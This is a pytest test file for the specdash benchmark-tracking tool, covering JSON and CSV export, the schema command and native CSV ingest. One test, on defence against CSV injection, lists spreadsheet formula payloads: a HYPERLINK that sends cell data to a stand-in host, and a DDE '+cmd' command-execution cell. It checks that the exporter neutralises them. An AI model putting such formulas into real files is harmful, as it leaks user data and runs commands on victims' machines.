"""`specdash export`, `specdash schema` and specdash's own CSV."""

import csv
import io
import json

import jsonschema
import pytest
from sqlalchemy import select

from specdash.db.engine import make_engine, reading
from specdash.db.models import Benchmark, Checkpoint, Deployment, Run
from specdash.ingest.export import TABLES
from specdash.ingest.links import LinkOptions
from specdash.ingest.native_schema import native_json_schema
from specdash.ingest.policy import IngestPolicy
from tests.conftest import FIXTURES
from tests.ingest_support import SGLANG, SPECFORGE, load

NATIVE = FIXTURES / "native"
PCIE = "8x RTX PRO 6000, TP8, PCIe"
BENCHMARK_FIELDS = {
    "run",
    "checkpoint",
    "deployment",
    "decode_tps",
    "output_throughput",
    "accept_length",
    "speculative_algorithm",
    "num_steps",
    "topk",
    "num_draft_tokens",
    "source_format",
    "source_file",
}


@pytest.fixture
def stocked(demo_url):
    engine = make_engine(demo_url)
    load(engine, SGLANG / "bench_serving_0.5.9.jsonl", IngestPolicy(link=LinkOptions(deployment=PCIE)))
    load(engine, SPECFORGE / "train_console.log")
    engine.dispose()
    return demo_url


def export(invoke, url, *args) -> str:
    result = invoke(url, "export", *args)
    assert result.exit_code == 0, result.output
    return result.output


def test_benchmarks_json_names_what_ids_point_to(invoke, stocked):
    rows = json.loads(export(invoke, stocked, "benchmarks"))
    story = next(r for r in rows if r["source_format"] == "sglang-bench-serving")
    assert BENCHMARK_FIELDS <= set(story)
    assert (story["run"], story["checkpoint"], story["deployment"]) == ("k25-eagle3-10k", "epoch_3", PCIE)
    assert (story["speculative_algorithm"], story["num_steps"], story["topk"], story["num_draft_tokens"]) == (
        "EAGLE",
        3,
        1,
        4,
    )
    assert story["decode_tps"] == pytest.approx(82.30, abs=0.01) and story["output_throughput"] == 81.27
    assert story["source_file"] == str(SGLANG / "bench_serving_0.5.9.jsonl")
    assert story["request_rate"] == "inf"  # JSON has no infinity: spelt out
    baselines = [r for r in rows if r["speculative_algorithm"] is None]
    assert baselines and all(r["run"] is None and r["checkpoint"] is None for r in baselines)


def test_every_table_exports_as_json_and_csv_with_the_same_rows(invoke, stocked):
    for table in sorted(TABLES):
        as_json = json.loads(export(invoke, stocked, table, "--format", "json"))
        as_csv = list(csv.DictReader(io.StringIO(export(invoke, stocked, table, "--format", "csv"))))
        assert len(as_json) == len(as_csv) > 0, table
        assert list(as_csv[0]) == list(as_json[0]), table


def test_metrics_export_is_long_form_and_filters_by_run(invoke, stocked):
    rows = list(
        csv.DictReader(
            io.StringIO(export(invoke, stocked, "metrics", "--run", "llama-eagle3", "--format", "csv"))
        )
    )
    assert len(rows) == 70 and set(rows[0]) == {"run", "key", "step", "value"}
    assert {"run": "llama-eagle3", "key": "train/acc_2", "step": "150", "value": "0.41"} in rows


def test_checkpoints_export_their_acceptance(invoke, stocked):
    rows = json.loads(export(invoke, stocked, "checkpoints", "--run", "llama-eagle3"))
    assert [(r["name"], r["acceptance"]) for r in rows] == [
        ("epoch_0_step_200", [0.7, 0.54, 0.45, 0.39]),
        ("epoch_0_step_300", [0.69, 0.53, 0.44, 0.38]),
    ]


def test_gaps_export_resolves_the_diagnoses(invoke, stocked):
    rows = json.loads(export(invoke, stocked, "gaps", "--run", "k25-eagle3-10k"))
    assert any("algorithm_mismatch" in r["diagnoses"] for r in rows)


def test_export_to_a_file(invoke, stocked, tmp_path):
    out = tmp_path / "runs.csv"
    result = invoke(stocked, "export", "runs", "--format", "csv", "-o", str(out))
    assert result.exit_code == 0 and f"{out}: 4 runs row(s)" in result.output
    assert out.read_text().startswith("name,framework,target_model")


def test_an_empty_table_exports_a_header(invoke, db_url):
    assert export(invoke, db_url, "benchmarks", "--format", "csv").startswith("id,run,checkpoint,deployment")
    assert json.loads(export(invoke, db_url, "gaps")) == []


def test_schema_validates_the_native_fixtures(invoke):
    document = json.loads(invoke(None, "schema").output)
    jsonschema.validate(json.loads((NATIVE / "bench_doc.json").read_text()), document)
    line = json.loads(invoke(None, "schema", "--kind", "line").output)
    for text in (NATIVE / "records.jsonl").read_text().splitlines():
        jsonschema.validate(json.loads(text), line)
    with pytest.raises(jsonschema.ValidationError):  # the schema is as strict as the ingest
        jsonschema.validate({"specdash": 1, "runs": [{"name": "a", "colour": "red"}]}, document)


def test_schema_of_one_kind():
    schema = native_json_schema("benchmark")
    assert schema["title"] == "BenchmarkRecord" and "decode_tps" in schema["required"]
    assert schema["properties"]["accept_length"]["anyOf"][0]["minimum"] == 1


def test_native_csv_by_file_name_and_by_kind_column(engine):
    load(engine, NATIVE / "runs.csv")
    result = load(engine, NATIVE / "records.csv")
    assert result.format == "specdash-csv" and result.store.linked == 1
    with reading(engine) as session:
        run = session.scalar(select(Run).where(Run.name == "llama-eagle3-a"))
        assert (run.ttt_length, run.hidden_size, run.config) == (4, 12288, {"learning_rate": 0.0001})
        assert session.scalar(select(Run.status).where(Run.name == "llama-eagle3-b")) == "running"
        deployment = session.scalar(select(Deployment))
        assert (deployment.name, deployment.tp_size, deployment.comm_fraction) == (
            "2x L40S, TP2, PCIe",
            2,
            0.3,
        )
        checkpoint = session.scalar(select(Checkpoint))
        assert [p.rate for p in checkpoint.position_acceptance] == [0.8, 0.7, 0.65, 0.6]
        spec = session.scalar(select(Benchmark).where(Benchmark.speculative_algorithm == "EAGLE3"))
        assert (spec.decode_tps, spec.accept_length, spec.checkpoint_id) == (140.2, 2.9, checkpoint.id)


FORMULAS = [
    '=HYPERLINK("https://tracker.example/?d="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "-2+3+cmd",
]


def test_csv_cells_a_spreadsheet_would_run_are_text(invoke, db_url):
    """Names that a spreadsheet reads as formulas (CSV injection) are exported with a leading ': shown as
    typed, never evaluated; JSON keeps them as they are, and numbers stay numbers."""
    from specdash.ingest.pipeline import ingest
    from specdash.ingest.sources import UploadSource

    lines = [json.dumps({"kind": "run", "name": name}) for name in FORMULAS]
    lines.append(
        json.dumps({"kind": "benchmark", "deployment": "=1+1", "run": FORMULAS[0], "decode_tps": 90.0})
    )
    result = ingest(make_engine(db_url), UploadSource("formulas.jsonl", ("\n".join(lines) + "\n").encode()))
    assert result.ok, result.problems
    runs = list(csv.DictReader(io.StringIO(export(invoke, db_url, "runs", "--format", "csv"))))
    assert sorted(r["name"] for r in runs) == sorted("'" + name for name in FORMULAS)
    (bench,) = csv.DictReader(io.StringIO(export(invoke, db_url, "benchmarks", "--format", "csv")))
    assert (bench["deployment"], bench["decode_tps"]) == ("'=1+1", "90.0")
    assert {r["name"] for r in json.loads(export(invoke, db_url, "runs"))} == set(FORMULAS)
    gaps = invoke(db_url, "gaps", "--threshold", "0", "--status", "all", "--format", "csv").output
    assert all(not cell.startswith(("=", "+", "@")) for row in csv.reader(io.StringIO(gaps)) for cell in row)


@pytest.mark.parametrize(
    "value,cell",
    [
        ("=1+1", "'=1+1"),
        ("\tx", "'\tx"),
        ("\r=1", "'\r=1"),
        ("-x", "'-x"),
        ("a=1", "a=1"),
        (-3.5, -3.5),
        (None, None),
    ],
)
def test_spreadsheet_safe_prefixes_only_text_a_spreadsheet_would_read_as_a_formula(value, cell):
    from specdash.ingest.csvtext import spreadsheet_safe

    assert spreadsheet_safe(value) == cell


def test_repeats_export_as_one_group_with_their_mean(invoke, db_url, tmp_path):
    """Two no-speculation runs of one load and dataset (64.5 and 63.7 tok/s) are a repeat group of 2 with
    a mean of 64.1; a run at another load is a group of its own."""
    runs = tmp_path / "runs.jsonl"
    run = {"kind": "benchmark", "deployment": "1x H100", "concurrency": 1, "dataset": "mtbench"}
    runs.write_text(
        "".join(
            json.dumps(r) + "\n"
            for r in (
                {**run, "decode_tps": 64.5},
                {**run, "decode_tps": 63.7},
                {**run, "concurrency": 8, "decode_tps": 51.0},
            )
        )
    )
    assert invoke(db_url, "ingest", str(runs)).exit_code == 0
    rows = json.loads(export(invoke, db_url, "benchmarks"))
    assert [(r["decode_tps"], r["repeats"]) for r in rows] == [(64.5, 2), (63.7, 2), (51.0, 1)]
    assert [r["repeat_mean_tps"] for r in rows] == pytest.approx([64.1, 64.1, 51.0])


def test_the_context_survives_a_native_round_trip(invoke, db_url, tmp_path):
    """Benchmarks at two prompt lengths go in as specdash's own records, come out of `export` with their
    mean input and output tokens (two groups of one: another context is another point), and the exported
    rows, read back as native records into a fresh store, keep them."""
    run = {"kind": "benchmark", "deployment": "1x H100", "concurrency": 4, "dataset": "random"}
    stated = [(1024.0, 512.0, 64.5), (8192.0, 512.0, 41.2), (None, 300.5, 70.0)]
    first = tmp_path / "sweep.jsonl"
    first.write_text(
        "".join(
            json.dumps({**run, "input_tokens": i, "output_tokens": o, "decode_tps": tps}) + "\n"
            for i, o, tps in stated
        )
    )
    assert invoke(db_url, "ingest", str(first)).exit_code == 0
    rows = json.loads(export(invoke, db_url, "benchmarks"))
    assert [(r["input_tokens"], r["output_tokens"], r["decode_tps"]) for r in rows] == stated
    assert [r["repeats"] for r in rows] == [1, 1, 1]
    native_fields = {"deployment", "concurrency", "dataset", "input_tokens", "output_tokens", "decode_tps"}
    again = tmp_path / "again.jsonl"
    again.write_text(
        "".join(
            json.dumps(
                {"kind": "benchmark"} | {k: v for k, v in r.items() if k in native_fields and v is not None}
            )
            + "\n"
            for r in rows
        )
    )
    fresh = f"sqlite:///{tmp_path / 'fresh.db'}"
    assert invoke(fresh, "init").exit_code == 0
    assert invoke(fresh, "ingest", str(again)).exit_code == 0
    back = json.loads(export(invoke, fresh, "benchmarks"))
    assert [(r["input_tokens"], r["output_tokens"]) for r in back] == [(i, o) for i, o, _ in stated]
    header = export(invoke, fresh, "benchmarks", "--format", "csv").splitlines()[0].split(",")
    assert {"input_tokens", "output_tokens"} <= set(header)


def test_native_csv_reads_the_context_and_leaves_a_blank_cell_unstated(engine, tmp_path):
    """specdash's own CSV: `input_tokens` and `output_tokens` columns, a blank cell is not stated."""
    path = tmp_path / "benchmarks.csv"
    path.write_text(
        "deployment,concurrency,dataset,decode_tps,input_tokens,output_tokens\n"
        "1x H100,8,random,52.5,8192,512\n"
        "1x H100,8,random,61.0,1024,\n"
    )
    load(engine, path)
    with reading(engine) as session:
        stored = session.execute(
            select(Benchmark.decode_tps, Benchmark.input_tokens, Benchmark.output_tokens).order_by(
                Benchmark.id
            )
        ).all()
    assert [tuple(row) for row in stored] == [(52.5, 8192.0, 512.0), (61.0, 1024.0, None)]
